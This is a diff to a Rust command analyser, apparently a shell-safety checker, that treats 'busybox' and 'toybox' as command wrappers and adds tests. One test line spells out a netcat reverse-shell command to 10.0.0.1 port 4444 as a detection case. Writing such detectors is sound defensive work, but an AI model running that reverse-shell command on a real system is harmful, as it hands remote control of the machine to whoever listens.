@@ -255,9 +255,10 @@ fn peel_wrappers<'t>(words: &[&'t str]) -> (usize, bool, Option<&'t str>) {
 const SHELLS: &[&str] = &[
     "sh", "bash", "zsh", "dash", "ksh", "ash", "csh", "tcsh", "fish", "busybox",
 ];
+/// Commands that run the command after them (`busybox nc ...` is `nc ...`).
 const WRAPPERS: &[&str] = &[
     "nohup", "exec", "env", "timeout", "nice", "setsid", "stdbuf", "xargs", "command", "builtin",
-    "time", "ionice",
+    "time", "ionice", "busybox", "toybox",
 ];
 const PRIVILEGE: &[&str] = &["sudo", "su", "doas", "pkexec", "runuser"];
 
@@ -726,6 +727,8 @@ mod tests {
         // `/bin/sh -i` or a bare shell is a shell for whoever holds stdin.
         assert!(analyse("/bin/sh -i").spawns_shell);
         assert!(analyse("bash").spawns_shell);
+        assert!(analyse("busybox nc 10.0.0.1 4444 -e /bin/sh").reverse_shell);
+        assert!(analyse("busybox sh").spawns_shell);
         assert!(analyse("python3 -").runs_stdin);
         assert!(analyse("/usr/bin/python3 -u").runs_stdin);
         assert!(analyse("bash -s").runs_stdin);
